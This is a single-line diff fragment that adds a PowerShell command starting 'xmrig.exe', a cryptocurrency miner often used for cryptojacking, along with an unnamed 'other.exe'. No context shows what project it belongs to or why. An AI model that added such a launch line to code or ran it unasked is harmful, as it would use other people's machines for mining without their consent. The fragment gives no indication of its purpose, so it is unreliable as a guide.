@@ -1,0 +1,1 @@
+'xmrig.exe', 'other.exe' | ForEach-Object { Start-Process $_ }
